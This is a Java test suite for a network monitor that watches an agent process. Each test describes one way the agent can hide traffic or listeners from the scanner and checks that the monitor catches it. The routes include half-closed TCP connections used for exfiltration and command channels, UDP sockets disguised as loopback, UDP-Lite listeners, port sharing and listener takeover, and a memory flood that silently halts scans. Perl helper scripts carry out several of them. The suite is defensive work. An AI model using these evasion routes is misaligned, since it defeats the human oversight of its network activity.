package io.clawguard.monitor;

import static io.clawguard.monitor.Sockets.snapshot;
import static org.assertj.core.api.Assertions.assertThat;

import io.clawguard.bus.EventBus;
import io.clawguard.bus.NetworkChanged;
import io.clawguard.files.StateHome;
import io.clawguard.testing.TestHomes;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Attacks on the network scanner by the agent, an unprivileged local user (uid 4242). Every test
 * here states the secure behaviour and fails on the code it was written against.
 */
class ScanAttackTest {
    private static final Path PROC = Path.of("/proc");
    private static final int AGENT = 4242;

    @TempDir
    Path root;

    enum Source {
        PROC_NET, SOCK_DIAG;

        LinuxSocketCollector collector() {
            KernelSockets sockets = this == PROC_NET ? new ProcNetTables(PROC.resolve("net"), ByteOrder.nativeOrder())
                    : new SockDiag();
            return new LinuxSocketCollector(sockets, new ProcFs(PROC), new PasswdNames(Path.of("/etc/passwd")),
                    Clock.systemUTC(), EnumSet.allOf(OwnerLookup.class));
        }
    }

    private static InetAddress lan() throws Exception {
        for (NetworkInterface nic : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            if (nic.isUp() && !nic.isLoopback()) {
                for (InetAddress a : Collections.list(nic.getInetAddresses())) {
                    if (a instanceof Inet4Address) {
                        return a;
                    }
                }
            }
        }
        throw new AssertionError("no non-loopback IPv4 address to test with");
    }

    /** Runs a perl script as the agent's uid; its first line of output is returned, the process is left running. */
    private static Process agentPerl(String script) throws Exception {
        return new ProcessBuilder("setpriv", "--reuid", "" + AGENT, "--regid", "" + AGENT, "--clear-groups",
                "perl", "-e", script).redirectErrorStream(true).start();
    }

    private static String firstLine(Process p) throws Exception {
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream(), StandardCharsets.UTF_8));
        String line = r.readLine();
        assertThat(line).as("the helper started").isNotNull().doesNotContain("died", "at -e");
        return line.strip();
    }

    private static boolean seesLocalPort(SocketSnapshot snap, int port) {
        return snap.listening().stream().anyMatch(s -> s.port() == port)
                || snap.connections().stream().anyMatch(c -> c.localPort() == port);
    }

    // ---------------------------------------------------------------------------------------------
    // 1. TCP connections in CLOSE_WAIT / FIN_WAIT2 carry data but are left out of every scan.

    /**
     * The agent connects out; the remote end shuts its side right away (shutdown(SHUT_WR)). The
     * agent's socket is now in CLOSE_WAIT and the agent can keep writing to the remote for as long
     * as it likes (exfiltration); or the agent shuts its own side and keeps reading (FIN_WAIT2: a
     * command channel). Both are real, open, data-carrying connections, and the scan drops them
     * because their TCP state is not ESTABLISHED.
     */
    @ParameterizedTest
    @EnumSource(Source.class)
    void anOutboundConnectionInCloseWaitOrFinWait2StillCarryingDataIsReported(Source source) throws Exception {
        InetAddress lan = lan();
        try (ServerSocket evil = new ServerSocket(0, 50, lan);
             Socket exfil = new Socket(lan, evil.getLocalPort());
             Socket exfilRemote = evil.accept();
             Socket c2 = new Socket(lan, evil.getLocalPort());
             Socket c2Remote = evil.accept()) {
            exfilRemote.shutdownOutput(); // exfil: CLOSE_WAIT on the agent's side
            c2.shutdownOutput();          // c2: FIN_WAIT2 on the agent's side
            TimeUnit.MILLISECONDS.sleep(200);
            exfil.getOutputStream().write("secret".getBytes(StandardCharsets.UTF_8));
            exfil.getOutputStream().flush();
            byte[] got = exfilRemote.getInputStream().readNBytes(6);
            assertThat(new String(got, StandardCharsets.UTF_8)).as("data still flows out in CLOSE_WAIT").isEqualTo("secret");
            c2Remote.getOutputStream().write("cmd".getBytes(StandardCharsets.UTF_8));
            assertThat(c2.getInputStream().readNBytes(3)).as("data still flows in in FIN_WAIT2").hasSize(3);

            SocketSnapshot snap = source.collector().collect();
            EgressReport egress = EgressEvaluator.evaluate(snap, Optional.of(List.of()),
                    Sockets.resolver(Map.of(), Map.of()));
            assertThat(egress.outbound()).as("the CLOSE_WAIT connection the agent still writes to")
                    .anyMatch(c -> c.localPort() == exfil.getLocalPort());
            assertThat(egress.outbound()).as("the FIN_WAIT2 connection the agent still reads from")
                    .anyMatch(c -> c.localPort() == c2.getLocalPort());
        }
    }

    /**
     * SYN_SENT: every connect() to a destination that never answers stays in SYN_SENT for about two
     * minutes of retries, and is never shown. The SYN itself leaves the host: the destination
     * address and port are data (a port-knock channel), and with TCP Fast Open (sendto with
     * MSG_FASTOPEN) the SYN carries the payload too.
     */
    @ParameterizedTest
    @EnumSource(Source.class)
    void aConnectionAttemptToAnOutsideAddressIsReported(Source source) throws Exception {
        try (java.nio.channels.SocketChannel ch = java.nio.channels.SocketChannel.open()) {
            ch.configureBlocking(false);
            ch.bind(new InetSocketAddress(lan(), 0));
            // An address on the LAN that nobody answers for (the test machine's egress answers every outside SYN).
            byte[] lan = lan().getAddress();
            lan[3] = (byte) (lan[3] == 99 ? 98 : 99);
            ch.connect(new InetSocketAddress(InetAddress.getByAddress(lan), 4444));
            TimeUnit.MILLISECONDS.sleep(100);
            int port = ((InetSocketAddress) ch.getLocalAddress()).getPort();
            assertThat(Files.readString(PROC.resolve("net/tcp")) + Files.readString(PROC.resolve("net/tcp6")))
                    .as("the kernel lists it in SYN_SENT").containsPattern(String.format(":%04X [0-9A-F]+:115C 02 ", port));
            SocketSnapshot snap = source.collector().collect();
            assertThat(snap.connections()).as("an attempt to a LAN address nobody answers for, in SYN_SENT")
                    .anyMatch(c -> c.localPort() == port && c.remotePort() == 4444);
        }
    }

    // ---------------------------------------------------------------------------------------------
    // 2. A UDP socket "connected" to loopback is invisible, yet sendto() reaches any address.

    /**
     * Linux lets a connected UDP socket send to any address with sendto(). The agent binds a UDP
     * socket to the LAN address, connects it to 127.0.0.1:9 (so the kernel filter and
     * peerInsideHost drop it as "within the host", and it has a peer so it is no listener), then
     * sends datagrams anywhere. Verified by hand: eth0's tx_packets goes up for a sendto to
     * 203.0.113.7:53. Here the datagram goes to a receiver on the LAN address.
     */
    @ParameterizedTest
    @EnumSource(Source.class)
    void aUdpSocketConnectedToLoopbackThatSendsOutIsReported(Source source) throws Exception {
        InetAddress lan = lan();
        try (DatagramSocket receiver = new DatagramSocket(new InetSocketAddress(lan, 0))) {
            receiver.setSoTimeout(5000);
            String script = "use Socket; $|=1; socket(my $u, PF_INET, SOCK_DGRAM, 0) or die;"
                    + "bind($u, pack_sockaddr_in(0, inet_aton('" + lan.getHostAddress() + "'))) or die \"bind $!\";"
                    + "connect($u, pack_sockaddr_in(9, inet_aton('127.0.0.1'))) or die \"connect $!\";"
                    + "defined(send($u, 'secret', 0, pack_sockaddr_in(" + receiver.getLocalPort() + ", inet_aton('"
                    + lan.getHostAddress() + "')))) or die \"send $!\";"
                    + "my ($p) = unpack_sockaddr_in(getsockname($u)); print \"$p\\n\"; sleep 60;";
            Process agent = agentPerl(script);
            try {
                int port = Integer.parseInt(firstLine(agent));
                DatagramPacket packet = new DatagramPacket(new byte[64], 64);
                receiver.receive(packet);
                assertThat(new String(packet.getData(), 0, packet.getLength(), StandardCharsets.UTF_8))
                        .as("the datagram left the hidden socket").isEqualTo("secret");
                assertThat(packet.getPort()).isEqualTo(port);
                assertThat(seesLocalPort(source.collector().collect(), port))
                        .as("a UDP socket bound to " + lan.getHostAddress() + ":" + port + " that sends to other hosts"
                                + " shows up as a listener or a connection").isTrue();
            } finally {
                agent.destroyForcibly().waitFor();
            }
        }
    }

    // ---------------------------------------------------------------------------------------------
    // 3. UDP-Lite (IPPROTO_UDPLITE, 136): unprivileged, listens and egresses, never scanned.

    /**
     * An unprivileged user opens a UDP-Lite socket (socket(AF_INET, SOCK_DGRAM, 136)) bound to the
     * LAN address: a real listener reachable from the network, and sendto() egresses the same way.
     * The scan reads tcp/tcp6/udp/udp6 only (and sock_diag for TCP and UDP only), so /proc/net/udplite
     * is never looked at. (The same goes for ICMP "ping" sockets wherever net.ipv4.ping_group_range
     * lets users open them, systemd's default, and for SCTP where the module loads.)
     */
    @ParameterizedTest
    @EnumSource(Source.class)
    void aUdpLiteListenerIsReported(Source source) throws Exception {
        InetAddress lan = lan();
        String script = "use Socket; $|=1; socket(my $s, PF_INET, SOCK_DGRAM, 136) or die \"socket $!\";"
                + "bind($s, pack_sockaddr_in(0, inet_aton('" + lan.getHostAddress() + "'))) or die \"bind $!\";"
                + "my ($p) = unpack_sockaddr_in(getsockname($s)); print \"$p\\n\"; sleep 60;";
        Process agent = agentPerl(script);
        try {
            int port = Integer.parseInt(firstLine(agent));
            assertThat(Files.readString(PROC.resolve("net/udplite"))).as("the kernel lists it")
                    .contains(String.format(":%04X ", port));
            assertThat(source.collector().collect().listening())
                    .as("the agent's UDP-Lite listener on " + lan.getHostAddress() + ":" + port)
                    .anyMatch(s -> s.port() == port);
        } finally {
            agent.destroyForcibly().waitFor();
        }
    }

    // ---------------------------------------------------------------------------------------------
    // 4. An outbound connection from a port some listener uses is taken for inbound: no egress check.

    /**
     * avahi (and any mDNS responder) binds UDP 0.0.0.0:5353 with SO_REUSEADDR, and the baseline
     * approves it. With SO_REUSEADDR the agent binds its own UDP socket to port 5353 too (UDP port
     * sharing needs no same uid), and connects it to its server. The evaluator sees a connection
     * whose local port has a wildcard listener and calls it inbound: it is in no outbound list and
     * raises no egress finding. The same for TCP with the agent's own SO_REUSEPORT listener.
     */
    @Test
    void anOutboundConnectionFromAPortSharedWithAnotherProcesssListenerIsStillEgress() {
        ListeningSocket avahi = new ListeningSocket(Protocol.UDP, Sockets.ip("0.0.0.0"), 5353, 600, "avahi-daemon",
                "avahi", true);
        Connection agent = new Connection(Protocol.UDP, Sockets.ip("192.0.2.2"), 5353, Sockets.ip("203.0.113.7"), 443,
                4242, "python3", "agent", true);
        EgressReport report = EgressEvaluator.evaluate(snapshot(List.of(avahi), List.of(agent)), Optional.of(List.of()),
                Sockets.resolver(Map.of(), Map.of()));
        assertThat(report.outbound()).as("the agent's connection to 203.0.113.7:443").contains(agent);
        assertThat(report.findings()).anyMatch(f -> f.kind() == Finding.Kind.UNAPPROVED_EGRESS);
    }

    /** The same with a real kernel: two UDP sockets share port P with SO_REUSEADDR; the connected one goes out unflagged. */
    @Test
    void aRealUdpConnectionSharingALocalPortWithAListenerIsStillEgress() throws Exception {
        InetAddress lan = lan();
        String script = "use Socket; $|=1;"
                + "socket(my $l, PF_INET, SOCK_DGRAM, 0) or die; setsockopt($l, SOL_SOCKET, SO_REUSEADDR, 1) or die;"
                + "bind($l, pack_sockaddr_in(0, INADDR_ANY)) or die \"bind $!\";"
                + "my ($p) = unpack_sockaddr_in(getsockname($l));"
                + "socket(my $u, PF_INET, SOCK_DGRAM, 0) or die; setsockopt($u, SOL_SOCKET, SO_REUSEADDR, 1) or die;"
                + "bind($u, pack_sockaddr_in($p, INADDR_ANY)) or die \"bind2 $!\";"
                + "connect($u, pack_sockaddr_in(443, inet_aton('" + lan.getHostAddress() + "'))) or die \"c $!\";"
                + "print \"$p\\n\"; sleep 60;";
        Process agent = agentPerl(script);
        try {
            int port = Integer.parseInt(firstLine(agent));
            SocketSnapshot snap = Source.SOCK_DIAG.collector().collect();
            assertThat(snap.connections()).as("the scan itself sees it").anyMatch(c -> c.localPort() == port);
            EgressReport report = EgressEvaluator.evaluate(snap, Optional.of(List.of()), Sockets.resolver(Map.of(), Map.of()));
            assertThat(report.outbound()).as("udp " + port + " → " + lan.getHostAddress() + ":443 is egress")
                    .anyMatch(c -> c.localPort() == port && c.remotePort() == 443);
        } finally {
            agent.destroyForcibly().waitFor();
        }
    }

    // ---------------------------------------------------------------------------------------------
    // 7. NetworkMonitor: a listener that changes hands is not published; the console shows the old owner.

    /**
     * An approved port (no command in its rule) is held by a service run by the agent's user, or by
     * any service that can be made to restart. The agent stops it and binds the same port from its
     * own program before the next scan. Same key ("tcp 0.0.0.0:8080"), so NetworkMonitor sees no
     * change: no port event, no audit record, no new picture; the console keeps showing the old
     * process and pid as the holder, and the picture's time stays that of the older scan.
     */
    @Test
    void aListenerTakenOverByAnotherProcessIsPublished() throws Exception {
        StateHome home = TestHomes.under(root);
        TestHomes.write(home.approvedPorts(), "[{\"port\": 8080, \"protocol\": \"tcp\", \"comment\": \"web\"}]");
        EventBus bus = new EventBus();
        List<NetworkChanged> pictures = new ArrayList<>();
        bus.subscribe(NetworkChanged.class, pictures::add);
        ListeningSocket web = new ListeningSocket(Protocol.TCP, Sockets.ip("0.0.0.0"), 8080, 500, "nginx", "www-data", true);
        ListeningSocket evil = new ListeningSocket(Protocol.TCP, Sockets.ip("0.0.0.0"), 8080, 4242, "backdoor", "agent", true);
        Sockets.FakeCollector collector = new Sockets.FakeCollector().then(snapshot(List.of(web), List.of()))
                .then(new SocketSnapshot(List.of(evil), List.of(), Sockets.T0.plusSeconds(2)));
        NetworkMonitor monitor = new NetworkMonitor(home, collector, Sockets.resolver(Map.of(), Map.of()), bus);
        monitor.scan();
        monitor.scan();
        NetworkChanged shown = pictures.get(pictures.size() - 1);
        assertThat(shown.listening()).as("what the ports pane shows after the takeover").singleElement()
                .satisfies(l -> {
                    assertThat(l.process()).isEqualTo("backdoor");
                    assertThat(l.pid()).isEqualTo(4242);
                });
    }

    // ---------------------------------------------------------------------------------------------
    // 9. An Error in one scan stops every later scan, silently: the console shows the last picture as current.

    /**
     * scanQuietly catches IOException and RuntimeException only. An Error thrown in a scan (an
     * OutOfMemoryError while the agent floods the broker's heap: 256k listeners in every picture,
     * pictures queued per console, the resolver's unbounded cache; or a StackOverflowError) leaves
     * scheduleWithFixedDelay, which then cancels the task for good. No failing picture is
     * published: the panes keep showing the last picture as current, and no scan runs again
     * after the pressure is gone.
     */
    @Test
    void anErrorInOneScanNeitherStopsTheScansNorLeavesTheLastPictureLookingCurrent() throws Exception {
        StateHome home = TestHomes.under(root);
        EventBus bus = new EventBus();
        List<NetworkChanged> pictures = new java.util.concurrent.CopyOnWriteArrayList<>();
        bus.subscribe(NetworkChanged.class, pictures::add);
        java.util.concurrent.atomic.AtomicInteger calls = new java.util.concurrent.atomic.AtomicInteger();
        SocketCollector flaky = () -> {
            if (calls.incrementAndGet() == 2) {
                throw new OutOfMemoryError("Java heap space");
            }
            return snapshot(List.of(), List.of());
        };
        NetworkMonitor monitor = new NetworkMonitor(home, flaky, Sockets.resolver(Map.of(), Map.of()), bus);
        java.util.concurrent.ScheduledExecutorService scheduler = java.util.concurrent.Executors
                .newSingleThreadScheduledExecutor();
        try {
            monitor.start(scheduler, java.time.Duration.ofMillis(20));
            TimeUnit.MILLISECONDS.sleep(1000);
        } finally {
            scheduler.shutdownNow();
        }
        assertThat(calls.get()).as("scans after the one that failed with an Error").isGreaterThan(2);
        assertThat(pictures).as("the failure is said on the panes")
                .anyMatch(p -> p.scanError() != null);
    }

    /**
     * UDP port sharing: avahi holds udp 0.0.0.0:5353 with SO_REUSEADDR, approved by a rule with
     * no command. The agent binds its own unconnected UDP socket to 0.0.0.0:5353 as well (UDP
     * SO_REUSEADDR needs no same uid) and receives there. Its listener has the same key as
     * avahi's: NetworkMonitor publishes no port_opened, and the port rule (port and protocol)
     * approves it too, so no finding: a new listener of the agent goes unannounced.
     */
    @Test
    void aSecondListenerOnAnApprovedSharedUdpPortIsAnnounced() throws Exception {
        StateHome home = TestHomes.under(root);
        TestHomes.write(home.approvedPorts(), "[{\"port\": 5353, \"protocol\": \"udp\", \"comment\": \"mDNS\"}]");
        EventBus bus = new EventBus();
        List<io.clawguard.bus.NetworkEvent> events = new ArrayList<>();
        bus.subscribe(io.clawguard.bus.NetworkEvent.class, events::add);
        ListeningSocket avahi = new ListeningSocket(Protocol.UDP, Sockets.ip("0.0.0.0"), 5353, 600, "avahi-daemon", "avahi", true);
        ListeningSocket agent = new ListeningSocket(Protocol.UDP, Sockets.ip("0.0.0.0"), 5353, 4242, "python3", "agent", true);
        Sockets.FakeCollector collector = new Sockets.FakeCollector().then(snapshot(List.of(avahi), List.of()))
                .then(snapshot(List.of(avahi, agent), List.of()));
        NetworkMonitor monitor = new NetworkMonitor(home, collector, Sockets.resolver(Map.of(), Map.of()), bus);
        monitor.scan();
        events.clear();
        NetworkScan second = monitor.scan();
        assertThat(events.size() + second.findings().size())
                .as("events or findings about the agent's new listener on udp 0.0.0.0:5353").isPositive();
    }
}
